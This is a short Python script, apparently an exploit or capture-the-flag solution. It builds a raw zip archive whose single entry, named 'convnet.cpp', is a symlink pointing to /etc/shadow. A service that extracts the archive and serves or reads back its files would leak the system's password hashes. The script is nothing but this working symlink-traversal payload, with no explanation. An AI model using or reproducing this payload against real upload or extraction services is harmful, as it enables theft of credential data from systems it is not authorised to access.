from archives import *

raw_zip([{"name": b"convnet.cpp", "data": b"/etc/shadow", "attributes": 0o120777 << 16}])
